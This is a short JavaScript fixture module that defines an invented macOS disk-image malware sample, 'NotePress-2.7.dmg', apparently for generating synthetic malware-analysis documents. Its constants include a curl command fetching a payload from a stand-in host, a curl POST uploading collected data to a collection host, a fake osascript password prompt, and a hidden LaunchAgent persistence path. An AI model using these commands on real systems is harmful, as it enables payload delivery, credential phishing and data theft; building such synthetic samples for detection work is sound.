/** What the invented disk image does and talks to; told once for all its documents. */
import { sha256 } from './seeded.mjs';

export const LABEL = 'macos-dmg';
export const SAMPLE_NAME = 'NotePress-2.7.dmg';
export const SHA256 = sha256(LABEL);

/** 19 May 2025, Unix seconds UTC. */
export const FIRST_SEEN_SEC = 1747640117;

export const HOST = 'dl.notepress.example';
export const HOST_IP = '192.0.2.201';
export const COLLECT_HOST = 'in.notepress-stat.test';
export const COLLECT_IP = '203.0.113.150';

const VOLUME = '/Volumes/NotePress';
export const APP = `${VOLUME}/NotePress.app/Contents/MacOS/NotePress`;
export const AGENT = '/Users/user1/Library/.npx/helper';
export const PLIST = '/Users/user1/Library/LaunchAgents/com.notepress.helper.plist';

export const CURL = `curl -s -k -o /tmp/.npx.tgz https://${HOST}/m/helper-arm64.tgz`;
export const UPLOAD = `curl -s -X POST -F "f=@/tmp/.npx/out.zip" https://${COLLECT_HOST}/u`;
export const DIALOG = `osascript -e 'display dialog "NotePress needs your password to finish." default answer "" with hidden answer'`;
